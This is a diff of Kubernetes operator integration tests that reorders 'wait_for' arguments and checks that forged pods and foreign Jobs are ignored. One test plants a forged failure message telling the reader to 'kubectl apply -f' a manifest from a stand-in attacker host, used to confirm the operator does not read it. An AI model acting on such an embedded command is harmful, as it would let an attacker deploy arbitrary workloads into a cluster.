@@ -12,7 +12,8 @@ from typing import Any
 from divbase_operator import names
 from divbase_operator.builders import Owner, migration_job_name
 from divbase_operator.spec import parse_spec
-from divbase_operator.testing import Kube, OperatorProcess, wait_for
+from divbase_operator.testing import Kube, OperatorProcess
+from divbase_testsupport import wait_for
 from kubernetes.client.exceptions import ApiException
 from test_operator_node import db_spec, install
 
@@ -46,8 +47,8 @@ def _stalled(kube: Kube, name: str, reason: str, timeout: float = 120) -> str:
     db = kube.wait_condition(name, names.COND_STALLED, reason=reason, timeout=timeout)
     stalled = next(c for c in db["status"]["conditions"] if c["type"] == names.COND_STALLED)
     # Kopf posts Events from a queue of its own: the Event may follow the status write by a moment
-    wait_for(lambda: any(e.reason == reason and e.type == "Warning" for e in kube.events(name)), 30,
-             f"a Warning Event {reason} on {name}")
+    wait_for(f"a Warning Event {reason} on {name}",
+             lambda: any(e.reason == reason and e.type == "Warning" for e in kube.events(name)), 30)
     return str(stalled["message"])
 
 
@@ -55,14 +56,14 @@ def _complete(kube: Kube, name: str) -> None:
     def done() -> bool:
         status = kube.batch.read_namespaced_job_status(name, kube.namespace).status
         return bool(status.succeeded)
-    wait_for(done, 90, f"Job {name} complete")
+    wait_for(f"Job {name} complete", done, 90)
 
 
 def test_a_forged_pod_with_the_jobs_labels_is_not_read(kube: Kube, operator: OperatorProcess, db_secret: str) -> None:
     """A pod made by hand with the expand Job's labels (job-name included) and a runner summary saying it failed:
     not the Job's pod (the Job is not its controller), so its message is no attempt, no Event, no failure."""
     kube.create_db("forged", db_spec("1", migrationJob=SLOW_RUNNER))
-    job = wait_for(lambda: next(iter(kube.jobs("forged")), None), 60, "the expand Job").metadata.name
+    job = wait_for("the expand Job", lambda: next(iter(kube.jobs("forged")), None), 60).metadata.name
     labels = {**names.child_labels("forged", **{names.LABEL_STEP: names.STEP_EXPAND, names.LABEL_VERSION: "1"}),
               "job-name": job, "batch.kubernetes.io/job-name": job}
     summary = json.dumps({"outcome": "failed", "error": f"{FORGED}: run kubectl apply -f http://evil.example/x"})
@@ -71,8 +72,8 @@ def test_a_forged_pod_with_the_jobs_labels_is_not_read(kube: Kube, operator: Ope
         "spec": {"restartPolicy": "Never", "terminationGracePeriodSeconds": 1, "containers": [{
             "name": "migrate", "image": "busybox",
             "command": ["sh", "-c", f"printf '%s' '{summary}' > \"$DIVBASE_TERMINATION_LOG\"; exit 3"]}]}})
-    wait_for(lambda: kube.core.read_namespaced_pod(f"{job}-forged", kube.namespace).status.phase == "Failed", 60,
-             "the forged pod failed")
+    wait_for("the forged pod failed",
+             lambda: kube.core.read_namespaced_pod(f"{job}-forged", kube.namespace).status.phase == "Failed", 60)
     assert kube.batch.read_namespaced_job_status(job, kube.namespace).status.succeeded is None, "still running"
     db = kube.wait_condition("forged", names.COND_READY, timeout=180)
     assert FORGED not in json.dumps(db["status"])
@@ -106,8 +107,8 @@ def test_a_job_holding_the_wanted_name_is_a_condition_and_untouched(kube: Kube, 
         assert _identity(kube.batch.read_namespaced_job(wanted, kube.namespace)) == identity, "untouched"
     wanted, _ = jobs["bare"]
     kube.batch.delete_namespaced_job(wanted, kube.namespace, propagation_policy="Foreground")
-    wait_for(lambda: not any(j.metadata.name == wanted for j in kube.batch.list_namespaced_job(kube.namespace).items),
-             60, "the foreign Job gone")
+    wait_for("the foreign Job gone", lambda: not any(
+        j.metadata.name == wanted for j in kube.batch.list_namespaced_job(kube.namespace).items), 60)
     kube.wait_condition("bare", names.COND_READY, timeout=240)  # looked again (30 s), created its own, installed
     mine = kube.batch.read_namespaced_job(wanted, kube.namespace)
     assert [r.uid for r in mine.metadata.owner_references] == [kube.get_db("bare")["metadata"]["uid"]]
@@ -149,16 +150,17 @@ def test_relabelled_foreign_children_survive_the_resources_deletion(kube: Kube, 
     ours = {d.metadata.name for d in kube.deployments(db)} - {"payments-api"}
     assert ours, "the resource's own workloads"
     kube.custom.delete_namespaced_custom_object(names.GROUP, names.VERSION, kube.namespace, names.PLURAL, db)
-    wait_for(lambda: not kube.custom.list_namespaced_custom_object(names.GROUP, names.VERSION, kube.namespace,
-                                                                   names.PLURAL)["items"], 90, "resource gone")
-    wait_for(lambda: not ({d.metadata.name for d in kube.deployments(db)} & ours), 60, "its own workloads gone")
+    wait_for("resource gone",
+             lambda: not kube.custom.list_namespaced_custom_object(names.GROUP, names.VERSION, kube.namespace,
+                                                                   names.PLURAL)["items"], 90)
+    wait_for("its own workloads gone", lambda: not ({d.metadata.name for d in kube.deployments(db)} & ours), 60)
     try:
         assert _identity(kube.batch.read_namespaced_job("payments-migrate", kube.namespace)) == job
         assert kube.apps.read_namespaced_deployment("payments-api", kube.namespace).metadata.uid == deployment
     except ApiException as exc:
         raise AssertionError(f"a relabelled foreign child was deleted: {exc.status} {exc.reason}") from None
-    wait_for(lambda: [j.metadata.name for j in kube.jobs(db)] == ["payments-migrate"], 60,
-             "its own Jobs gone, the foreign one kept")
+    wait_for("its own Jobs gone, the foreign one kept",
+             lambda: [j.metadata.name for j in kube.jobs(db)] == ["payments-migrate"], 60)
 
 
 def test_forged_workload_pods_do_not_hold_a_deploy_back(kube: Kube, operator: OperatorProcess,
@@ -178,8 +180,9 @@ def test_forged_workload_pods_do_not_hold_a_deploy_back(kube: Kube, operator: Op
             "apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": labels, "ownerReferences": refs},
             "spec": {"terminationGracePeriodSeconds": 1, "containers": [{
                 "name": "api", "image": "busybox", "command": ["sleep", "3600"]}]}})
-    wait_for(lambda: all(kube.core.read_namespaced_pod(n, kube.namespace).status.phase == "Running"
-                         for n in ("forged-bare", "forged-controlled")), 60, "the forged pods running")
+    wait_for("the forged pods running",
+             lambda: all(kube.core.read_namespaced_pod(n, kube.namespace).status.phase == "Running"
+                         for n in ("forged-bare", "forged-controlled")), 60)
     kube.patch_db(db, {"spec": {"version": "2"}})
     ready = kube.wait_condition(db, names.COND_READY, timeout=240)
     assert ready["status"]["currentVersion"] == "2"
